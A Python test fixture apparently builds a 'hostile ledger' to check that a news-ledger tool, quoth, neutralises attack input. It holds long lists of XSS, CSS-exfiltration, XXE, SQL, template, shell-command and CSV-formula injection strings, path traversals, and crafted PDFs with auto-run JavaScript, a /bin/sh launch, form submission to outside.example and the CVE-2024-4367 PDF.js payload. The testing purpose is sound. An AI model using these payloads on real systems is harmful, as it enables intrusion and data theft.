"""Texts that try to do something: to run a script, to fetch, to lead elsewhere, to break a page.

A script that runs calls `ran()`; what is fetched comes from `outside.example`. `STRINGS` stand in
every field that a ledger has (`hostile_ledger`), `FILES` are documents as somebody may add them.
"""

from __future__ import annotations

from base64 import b64encode
from collections.abc import Iterator
from dataclasses import dataclass, replace
from itertools import count, pairwise
from pathlib import Path

from test_documents_pdf_hostile import made, stream

from quoth.compare.many import compare_ledger
from quoth.documents import from_text
from quoth.ledger import open_ledger
from quoth.ledger.inputs import Input
from quoth.records import (
    Cued,
    Date,
    Document,
    Figure,
    Found,
    Metadata,
    Passage,
    Reading,
    Source,
    Span,
    Statement,
)

RUN = "ran()"
OUT = "http://outside.example"

TAGS = (
    f"<script>{RUN}</script>",
    f"<ScRiPt >{RUN}</sCrIpT >",
    f"<script/x>{RUN}</script/x>",
    f"<script\x0c>{RUN}</script>",
    f"<<script>{RUN}//<</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script src={OUT}/1.js></script>",
    "<script type=module src=//outside.example/2.mjs></script>",
    "<script>/*",
    f"*/{RUN}</script>",
    f'"><script>{RUN}</script>',
    f"'><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"</noscript><script>{RUN}</script>",
    f"</code></p></footer><script>{RUN}</script>",
    f"--><script>{RUN}</script>",
    f"]]><script>{RUN}</script>",
    f"<!--><script>{RUN}</script>-->",
    "<!-- a comment that does not end",
    f'<noscript><p title="</noscript><script>{RUN}</script>">',
    f"<template><script>{RUN}</script></template>",
    f"<xmp><script>{RUN}</script></xmp>",
    f"<plaintext><script>{RUN}</script>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><script href=data:text/javascript,{RUN} />",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<svg></p><style><a id='</style><img src=1 onerror={RUN}>'>",
    f"<svg><foreignObject><body onload={RUN}></foreignObject></svg>",
    f"<?xml version='1.0'?><?xml-stylesheet href='{OUT}/3.xsl'?>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"<a href='javascript:{RUN}'>a way on</a>",
    f"<form action='javascript:{RUN}'><button autofocus>go</button></form>",
    f"<button formaction=javascript:{RUN}>go</button>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src=javascript:parent.{RUN}></iframe>",
    f"<object data=javascript:{RUN}></object>",
    f"<embed src=javascript:{RUN}>",
    f"<svg><a xlink:href=javascript:{RUN}><text y=20>a way on</text></a></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={RUN}></svg>#x'/></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><set attributeName=onmouseover to={RUN}>",
    f"<details open ontoggle={RUN}><summary>more</summary></details>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}></select>",
    f"<textarea autofocus onfocus={RUN}>",
    f"<div contenteditable autofocus tabindex=1 onfocus={RUN}>here</div>",
    f"<img src=x onerror={RUN}>",
    f"<img/src=x/onerror={RUN}>",
    f"<img src=x onerror\n={RUN}>",
    f"<img src='x'onerror='{RUN}'>",
    f"<image src=x onerror={RUN}>",
    f"<video src=x onerror={RUN}></video>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}></audio>",
    f"<body onload={RUN}>",
    f"<body onpageshow={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}//",
    f"<style onload={RUN}></style>",
    f"<link rel=stylesheet href=data:, onload={RUN}>",
    f"<marquee onstart={RUN}>passing</marquee>",
    f"<p style='animation:spin 1s' onanimationstart={RUN}>",
    f"<p oncontentvisibilityautostatechange={RUN} style=content-visibility:auto>",
    f"<x onclick={RUN} onpointerover={RUN}>here",
    f'&#xE000;s1" onmouseover="{RUN}|s1&#xE001;',  # what marks stand for in `original_page`
)
VALUES = (
    f'" onmouseover="{RUN}',
    f"' onmouseover='{RUN}",
    f"` onmouseover=`{RUN}",
    f'" autofocus onfocus="{RUN}" x="',
    f"' autofocus onfocus='{RUN}' x='",
    f" onload={RUN} ",
    f"x onerror={RUN}",
    f'\\" onload={RUN} \\"',
    f'"/onload={RUN}/"',
    f'" style="background:url({OUT}/4)" x="',
    f'"}});{RUN};//',
    f"');{RUN};//",
    f"\\');{RUN};//",
    f"`+{RUN}+`",
    f"${{{RUN}}}",
    f"]}};{RUN};//",
    f"*/{RUN}/*",
    f"\u2028{RUN}\u2029",
    f"&quot; onload=&quot;{RUN}",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"&#x3c;img src=x onerror={RUN}&#x3e;",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"\\x3cscript\\x3e{RUN}\\x3c/script\\x3e",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"%253Cscript%253E{RUN}",
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"\u02bascript {RUN}",
    f"<\x00script>{RUN}</script>",
    f"<script>{RUN}<\x00/script>",
)
ADDRESSES = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f" javascript:{RUN}",
    f"\x01javascript:{RUN}",
    f"java\tscript:{RUN}",
    f"java\nscript:{RUN}",
    f"javascript&colon;{RUN}",
    f"javascript://outside.example/%0a{RUN}",
    f"javascript:/*--></title></style></script><svg/onload={RUN}>",
    f"vbscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "data:text/html;base64," + b64encode(f"<script>{RUN}</script>".encode()).decode(),
    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>",
    "file:///etc/passwd",
    "blob:http://127.0.0.1/1",
    "view-source:http://outside.example/",
    "//outside.example/5",
    "\\\\outside.example\\6",
    "/\\outside.example/7",
    "http:/outside.example/8",
    "http:outside.example/9",
    "http://127.0.0.1@outside.example/10",
    'http://outside.example/11" onmouseover="ran()',
    "http://outside.example/12'><script>ran()</script>",
    "ht\ntp://outside.example/13",
    f"[a way on](javascript:{RUN})",
    f"![a picture]({OUT}/14.png)",
)
FETCHING = (
    f"<img src={OUT}/20.png>",
    f"<img srcset='{OUT}/21.png 1x'>",
    f"<picture><source srcset={OUT}/22.png><img></picture>",
    f"<video poster={OUT}/23.png src={OUT}/23.mp4 autoplay>",
    f"<audio src={OUT}/24.mp3 autoplay>",
    f"<link rel=stylesheet href={OUT}/25.css>",
    f"<link rel=prefetch href={OUT}/26>",
    f"<link rel=preconnect href={OUT}>",
    f"<link rel=dns-prefetch href={OUT}>",
    f"<link rel=modulepreload href={OUT}/27.mjs>",
    f"<link rel=icon href={OUT}/28.ico>",
    f"<link rel=manifest href={OUT}/29.json>",
    f"<meta http-equiv=refresh content='0;url={OUT}/30'>",
    "<meta http-equiv=set-cookie content='a=b'>",
    "<meta name=referrer content=unsafe-url>",
    f"<base href={OUT}/31/>",
    "<base target=_top href=//outside.example/32/>",
    f"<iframe src={OUT}/33></iframe>",
    f"<object data={OUT}/34></object>",
    f"<embed src={OUT}/35>",
    f"<input type=image src={OUT}/36>",
    f"<body background={OUT}/37>",
    f"<table background={OUT}/38><td>cell</table>",
    f"<svg><image href={OUT}/39.png /></svg>",
    f"<svg><use href={OUT}/40.svg#x /></svg>",
    f"<svg><filter><feImage href={OUT}/41.png /></filter></svg>",
    f"<form id=stolen action={OUT}/42><input name=q></form><button form=stolen>go</button>",
    f"<a href={OUT}/43 ping={OUT}/44>a way on</a>",
    f"<track src={OUT}/45>",
    f"<style>@import '{OUT}/46.css';</style>",
    f"<style>*{{background:url({OUT}/47)}}</style>",
    f"<style>@font-face{{font-family:a;src:url({OUT}/48)}}*{{font-family:a}}</style>",
    f"<style>input[value^=a]{{background:url({OUT}/49)}}</style>",
    f"<p style=\"background:url('{OUT}/50')\">",
    "<p style=position:fixed;inset:0;z-index:9999>over all",
    f"}}*{{background:url({OUT}/51)}}",
    f";background:url({OUT}/52)",
    "</style><style>body{display:none}</style>",
    f"<portal src={OUT}/53></portal>",
    f"<fencedframe src={OUT}/54></fencedframe>",
)
CLOBBERING = (
    "<form id=main><input name=action><input name=children></form>",
    "<img name=querySelector><img name=getElementById>",
    "<a id=document><a id=location href=http://outside.example/60>",
    "__proto__",
    "constructor",
    "toString",
    '"] , body { } [x="',
    "#main > :not(x), *",
    "')] | //*[('",
)
TEMPLATES = (
    "{{ 7 * 7 }}",
    "{{ ''.__class__.__mro__ }}",
    "{{ settings.token }}",
    "{% for x in range(99999999) %}x{% endfor %}",
    "{% raw %}",
    "{# hidden",
    "${7*7} #{7*7} <%= 7*7 %> [[${7*7}]]",
    "%(asctime)s %s %n %d",
    "{0.__class__} {x!r:>99999}",
    "'; DROP TABLE documents; --",
    '" OR 1=1 --',
    '" OR "a" NEAR(b, 5) AND (',
    "* OR a* ^ -",
    "$(touch outside) `touch outside` | touch outside; touch outside",
    "--help",
    "-o/etc/passwd",
    '=HYPERLINK("http://outside.example/61")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
)
PATHS = (
    "../../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "/etc/passwd",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "..;/..;/etc/passwd",
    "....//....//etc/passwd",
    "page.html\x00.pdf",
    "CON",
    "C:\\windows\\win.ini",
    "file.html?x=1#y",
    "a/b/c.html",
    ".",
    "..",
)
LINES = (
    "x\r\nSet-Cookie: stolen=1",
    f"x\r\n\r\n<script>{RUN}</script>",
    "x\nevent: message\ndata: {}\n\n",
    "x\x0bvertical\x0cform feed",
    "x\x85next line\u2028line\u2029paragraph",
    "x\x1b]8;;http://outside.example/62\x07a way on\x1b]8;;\x07\x1b[2J",
    "x\x00y",
    "x\x7f\x08\x08y",
)
SIGNS = (
    "\u202eelbisreveR",
    "\u2066\u2067isolated and never ended",
    "\u202d\u202e\u202c" * 20,
    "a\u200b\u200c\u200d\u2060\ufeffb",
    "e" + "\u0301" * 300,
    "\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466",
    "\ufffe\uffff\U0001fffe",
    "\ue000\U000f0000",
    "\u115f\u3164 \u2800",
    "\u0430\u0440\u0440\u04cf\u0435.example",
    "A" * 5_000,
    "<b>" * 2_000,
    "&amp;" * 1_000,
    "\U0001f44b" * 1_500,
    " " * 200 + "behind a gap",
    "word " * 800,
    "\u0e47" * 500,
    "\u202e" + f"<script>{RUN}</script>" + "\u202c",
)
STRINGS: tuple[str, ...] = (
    *TAGS,
    *VALUES,
    *ADDRESSES,
    *FETCHING,
    *CLOBBERING,
    *TEMPLATES,
    *PATHS,
    *LINES,
    *SIGNS,
)


def _saved(hostile: str) -> bytes:
    """A saved page that has `hostile` in its head, its headline, its text and its metadata."""
    return f"""<!doctype html><html><head><title>{hostile}</title>
<meta property="og:site_name" content="{hostile}"><meta name="author" content='{hostile}'>
<link rel="canonical" href="{hostile}">{hostile}</head><body {hostile}>
<article><h1>{hostile}</h1><p class="byline">By {hostile}</p>
<p>A harbour official said the ferry had carried at least 40 people too many {hostile}.</p>
<p>Nobody from the harbour spoke to the paper that evening, one of the men said.</p>
<p>{hostile}</p></article></body></html>
""".encode(errors="replace")


def _pdf(
    said: bytes, catalog: bytes = b"", on_page: bytes = b"", font: bytes = b"", *more: bytes
) -> bytes:
    """A page of text with entries of its own in catalog, page and font; `more` is 6 and on."""
    words = b"A harbour official said the ferry had carried at least 40 people, as %s." % said
    return made(
        b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalog,
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R"
        b" /Resources << /Font << /F 5 0 R >> >> %s >>" % on_page,
        stream(b"BT /F 12 Tf 72 700 Td (%s) Tj ET" % words),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica %s >>" % font,
        *more,
    )


def _linked(action: bytes) -> bytes:
    return b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /A << %s >> >>]" % action


_JS = b"/S /JavaScript /JS (app.alert\\(1\\); ran\\(\\);)"
_FIELD = b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /V (b) /Rect [0 0 99 99] /AA << "
PDFS = {
    "opened.pdf": _pdf(b"he opened it", b"/OpenAction << %s >>" % _JS),
    "named.pdf": _pdf(
        b"she named it", b"/Names << /JavaScript << /Names [(a) << %s >>] >> >>" % _JS
    ),
    "page.pdf": _pdf(b"they turned a page", on_page=b"/AA << /O << %s >> >>" % _JS),
    "linked.pdf": _pdf(b"the link was hidden", on_page=_linked(_JS)),
    "address.pdf": _pdf(b"nobody saw", on_page=_linked(b"/S /URI /URI (javascript:ran\\(\\))")),
    "outside.pdf": _pdf(
        b"it led away", b"/OpenAction << /S /URI /URI (http://outside.example/70) >>"
    ),
    "launched.pdf": _pdf(b"boats were launched", b"/OpenAction << /S /Launch /F (/bin/sh) >>"),
    "elsewhere.pdf": _pdf(
        b"others stood by", b"/OpenAction << /S /GoToR /F (http://outside.example/71.pdf) >>"
    ),
    "sent.pdf": _pdf(
        b"letters were sent", b"/OpenAction << /S /SubmitForm /F (http://outside.example/72) >>"
    ),
    "field.pdf": _pdf(
        b"farmers knew",
        b"/AcroForm << /Fields [6 0 R] >>",
        b"/Annots [6 0 R]",
        b"",
        _FIELD + b"/F << %s >> /K << %s >> >> >>" % (_JS, _JS),
    ),
    # What PDF.js before 4.2 ran as script (CVE-2024-4367).
    "matrix.pdf": _pdf(b"the mayor knew", font=b"/FontMatrix [1 2 3 4 5 (0\\); ran\\(\\)//)]"),
    "titled.pdf": _pdf(b"the title had it", b"/Lang (<script>ran\\(\\)</script>)"),
}
FILES: dict[str, bytes] = {
    **{f"page-{number}.html": _saved(each) for number, each in enumerate((*TAGS, *FETCHING))},
    **PDFS,
    "image.svg": f"<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'><text>A harbour official"
    f" said so.</text><script>{RUN}</script></svg>".encode(),
    "mail.eml": f"From: <script>{RUN}</script> <a@outside.example>\nSubject: =?utf-8?b?"
    f"{b64encode(TAGS[0].encode()).decode()}?=\nMIME-Version: 1.0\nContent-Type: text/html\n\n"
    f"<p>A harbour official said so.<img src={OUT}/73 onerror={RUN}></p>".encode(),
    "feed.xml": f"""<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY e SYSTEM "file:///etc/passwd">]>
<rss version="2.0"><channel><title>&lt;script&gt;{RUN}&lt;/script&gt;</title><item>
<title>&lt;img src=x onerror={RUN}&gt;</title><link>javascript:{RUN}</link>
<description>A harbour official said so.&lt;script&gt;{RUN}&lt;/script&gt;</description></item>
</channel></rss>""".encode(),
    "notes.md": f"# <script>{RUN}</script>\n\n[A harbour official](javascript:{RUN}) said so."
    f"\n\n<img src={OUT}/74 onerror={RUN}>\n\n![a]({OUT}/75)\n".encode(),
    "table.csv": f'text,title,url\n"A harbour official said so. <b onclick={RUN}>","{TAGS[0]}",'
    f'"javascript:{RUN}"\n'.encode(),
    "page.mhtml": f"""From: <saved>\nMIME-Version: 1.0
Content-Type: multipart/related; type="text/html"; boundary="b"\n\n--b\nContent-Type: text/html
Content-Location: javascript:{RUN}\n\n<article><h1>x{TAGS[0]}</h1>
<p>A harbour official said the ferry had carried at least 40 people too many.</p></article>
--b--\n""".encode(),
    f"<img src=x onerror={RUN}>.txt": b"A harbour official said so.\n\nNobody else spoke.",
    f'" onmouseover="{RUN}.txt': b"A harbour official said so, again.\n\nNobody else spoke.",
    "not a page.html": b"\x00\x01<script>ran()</script>",
}

TOGETHER = 8
"""Strings in one document."""
TOLD = -(-len(STRINGS) // TOGETHER)
"""How many documents that makes: those with the first numbers."""


@dataclass
class Credulous:
    """Reads each paragraph as said by the one before, and finds in it all that can be found."""

    model: str = f"<script>{RUN}</script>"

    def read_each(self, items: object) -> Iterator[object]:
        for item in items:  # type: ignore[attr-defined]
            yield self.read(item) if isinstance(item, Document) else item

    def read(self, document: Document) -> Reading:
        places = [
            Passage(document, (block.spans[0],))
            for block in document.blocks
            if block.spans and block.spans[0].start < block.spans[0].end
        ][:40]
        pairs = [*pairwise(places), *zip(places[-1:], places[:1], strict=True)]
        sources = tuple(
            Source(f"p{n}", "person", True, who, (who,), (who,), who, who, who)
            for n, (who, _) in enumerate(pairs, 1)
        )
        statements = tuple(
            Statement(
                f"s{n}",
                who,
                who,
                what,
                "direct" if n % 2 else "indirect",
                None,
                0.5,
                f"p{n}",
                Cued(who.text[:200], "deny", "distances", "negative", who.text[:200]),
                1.0,
                who,
            )
            for n, (who, what) in enumerate(pairs, 1)
        )
        figures = tuple(
            Figure(_begin(what), 40.0, None, "at_least", what.text[:50], what, statement=f"s{n}")
            for n, (_, what) in enumerate(pairs, 1)
        )
        dates = tuple(
            Date(_begin(what), "date", what.text[:50], what.text[:200], statement=f"s{n}")
            for n, (_, what) in enumerate(pairs, 1)
        )
        return Reading(document, statements, self.model, sources, figures, dates)


def _begin(passage: Passage) -> Span:
    start = passage.spans[0].start
    return Span(start, start + 1)


def _told(strings: tuple[str, ...], number: int) -> Document:
    """A document that has `strings` in its text, each a paragraph, and together in each field."""
    lines = (f"{each} said number {number}." for each in strings)
    together = " ".join(strings)
    document = from_text("\n\n".join(lines), together)
    found = Found(together, together)
    return replace(
        document,
        metadata=Metadata(
            outlet=found,
            title=found,
            authors=tuple(Found(each, "byline") for each in strings),
            published=Found(f"2031-03-{number % 28 + 1:02}", together),
            language=Found("en", together),
            address=Found(strings[0], together),
            columns=tuple((each, each) for each in strings),
        ),
    )


def hostile_ledger(path: Path, folder: Path) -> Path:
    """A ledger of all `STRINGS` and `FILES`, read, corrected, linked and grouped into events."""
    reader = Credulous()
    files = folder / "files"
    files.mkdir()
    with open_ledger(path) as ledger:
        numbers = count(1)
        for at in range(0, len(STRINGS), TOGETHER):
            strings = STRINGS[at : at + TOGETHER]
            number = ledger.keep(reader.read(_told(strings, next(numbers))))
            for n, each in enumerate(strings, 1):
                statement = f"{number}:s{n}"
                if n % 3 == 0:
                    ledger.set_source(statement, f"Ida {each}", kind="person", who=each, why=each)
                else:
                    ledger.confirm(statement, who=each, why=each)
        for _ in ledger.link():
            pass
        given = []
        for name, data in FILES.items():
            (files / str(len(given))).write_bytes(data)
            given.append(Input(name, (files / str(len(given))).open("rb")))
        try:
            for _ in ledger.add(given, reader, any_language=True):  # type: ignore[arg-type]
                pass
        finally:
            for each in given:
                each.stream.close()  # type: ignore[union-attr]
        for _ in ledger.group():
            pass
        ledger.put_into(f"<script>{RUN}</script>", range(TOLD + 1, TOLD + 5))
        compare_ledger(ledger)
    return path
